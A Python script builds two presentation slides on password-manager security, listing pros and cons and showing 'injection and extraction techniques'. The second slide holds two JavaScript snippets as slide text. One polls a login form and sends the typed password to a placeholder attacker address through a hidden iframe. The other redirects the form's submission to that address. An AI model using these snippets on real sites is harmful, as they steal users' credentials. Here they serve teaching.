

from pptx import Presentation
from pptx.dml.color import RGBColor
from pptx.enum.shapes import MSO_SHAPE
from pptx.enum.text import MSO_ANCHOR, PP_ALIGN
from pptx.oxml import parse_xml
from pptx.oxml.ns import nsdecls
from pptx.util import Inches, Pt

RECTANGLE = MSO_SHAPE.RECTANGLE
TOP, BOTTOM = MSO_ANCHOR.TOP, MSO_ANCHOR.BOTTOM
LEFT, CENTER = PP_ALIGN.LEFT, PP_ALIGN.CENTER

WHITE = RGBColor(0xFF, 0xFF, 0xFF)
PALE_GRAY = RGBColor(0xF2, 0xF2, 0xF2)
DARK_GRAY = RGBColor(0x59, 0x59, 0x59)
ORANGE = RGBColor(0xEF, 0x79, 0x20)
TEAL = RGBColor(0x1E, 0xB8, 0xC1)
PALE_TEAL = RGBColor(0xCD, 0xE6, 0xE9)

FONT = "TeX Gyre Pagella"
SLIDE_WIDTH = 13.33
BANDS = [(0, 1.5, DARK_GRAY), (1.5, 0.09, ORANGE), (1.58, 0.09, TEAL)]

TITLE_FONT = {"name": FONT, "size": Pt(60), "bold": False}
HEADER_FONT = {"name": FONT, "bold": True}
BODY_FONT = {"name": FONT, "bold": False}

PROS = """Ease of use and organization
Management efficiency
Strong password generation
Cross platform
Automated updates
Easily incorporated
Additional features
Defense against phishing and pharming
Protection vs. Keystroke malware"""

CONS = """Man-in-the-browser attacks
Keystroke malware
Compromised master password
XSS
Evil coffee shop attackers"""

STEALTH_CODE = r"""function testPassword() {
   var password =
   document.forms[0].password.value;
   if(password != "") {
      var temp=
      document.createElement("div");
      temp.innerHTML +=
      "<iFrame src=\""+ attacker_addr +
      "?password=" + password +
      "\" style=\"display:none;\" />";
      document.body.appendChild(temp);
      clearInterval(interval);
   }}
   interval = setInterval(testPassword, 50);"""

FORM_ACTION_CODE = """changer = function() {
   document.forms[0].action = attacker_addr;
   document.forms[0].submit();
}
setTimeout(changer, 1000);"""

# Each column is its header, its text and the top margin of its text.
# The body row grows to hold its text and the margin below it.
SLIDES = [
    {
        "title": "Advantages & Disadvantages",
        "title_left": 0.25, "title_width": 12.62,
        "left": 1.15, "top": 1.93, "column_width": 5.64,
        "row_heights": [0.47, 3.05], "size": 24,
        "columns": [("PRO’S", PROS, 0.38), ("CON’S", CONS, 0.3)],
    },
    {
        "title": "Injection & Extraction Techniques",
        "title_left": 0.2, "title_width": 12.95,
        "left": 0.91, "top": 1.91, "column_width": 5.84,
        "row_heights": [0.4, 3.05], "size": 18,
        "columns": [("STEALTH CODE", STEALTH_CODE, 0.05),
                    ("FORM ACTION CODE", FORM_ACTION_CODE, 0.05)],
    },
]


def write_lines(frame, text, color, align, font_format):
    """Write each line of the text as one paragraph."""
    for index, line in enumerate(text.splitlines()):
        para = frame.paragraphs[0] if index == 0 else frame.add_paragraph()
        para.alignment = align
        span = para.add_run()
        span.text = line
        span.font.color.rgb = color
        for name, value in font_format.items():
            setattr(span.font, name, value)


def add_borders(cell, widths):
    """Give the cell white borders, with widths in points by side."""
    properties = cell._tc.get_or_add_tcPr()
    for side, width in widths.items():
        properties.append(parse_xml(
            f'<a:ln{side} {nsdecls("a")} w="{Pt(width)}"><a:solidFill>'
            f'<a:srgbClr val="{WHITE}"/></a:solidFill></a:ln{side}>'))


deck = Presentation()
deck.slide_width = Inches(SLIDE_WIDTH)
deck.slide_height = Inches(7.5)
background = deck.slide_master.background.fill
background.solid()
background.fore_color.rgb = PALE_GRAY

for content in SLIDES:
    page = deck.slides.add_slide(deck.slide_layouts[6])

    for top, height, color in BANDS:
        band = page.shapes.add_shape(
            RECTANGLE, 0, Inches(top), Inches(SLIDE_WIDTH), Inches(height))
        band.shadow.inherit = False
        band.fill.solid()
        band.fill.fore_color.rgb = color
        band.line.fill.background()

    title = page.shapes.add_textbox(
        Inches(content["title_left"]), Inches(0.29),
        Inches(content["title_width"]), Inches(1.13))
    title.text_frame.word_wrap = True
    title.text_frame.vertical_anchor = BOTTOM
    write_lines(title.text_frame, content["title"], WHITE, CENTER, TITLE_FONT)
    title.text_frame.paragraphs[0].line_spacing = 0.9

    columns = content["columns"]
    heights = content["row_heights"]
    table = page.shapes.add_table(
        len(heights), len(columns),
        Inches(content["left"]), Inches(content["top"]),
        Inches(content["column_width"] * len(columns)),
        Inches(sum(heights))).table
    table.horz_banding = False
    for row, height in zip(table.rows, heights):
        row.height = Inches(height)

    size = {"size": Pt(content["size"])}
    for index, (header, body, body_margin) in enumerate(columns):
        table.columns[index].width = Inches(content["column_width"])
        rows = [
            (header, 0.05, 0.05, TEAL, WHITE, CENTER, HEADER_FONT, 1, 3),
            (body, body_margin, 0.3, PALE_TEAL, DARK_GRAY, LEFT, BODY_FONT, 3, 1),
        ]
        for row_index, (text, margin_top, margin_bottom, fill, color, align,
                        font_format, top_line, bottom_line) in enumerate(rows):
            cell = table.cell(row_index, index)
            cell.vertical_anchor = TOP
            cell.margin_top = Inches(margin_top)
            cell.margin_bottom = Inches(margin_bottom)
            add_borders(cell, {"L": 1, "R": 1, "T": top_line, "B": bottom_line})
            cell.fill.solid()
            cell.fill.fore_color.rgb = fill
            write_lines(cell.text_frame, text, color, align, font_format | size)

deck.save("out.pptx")
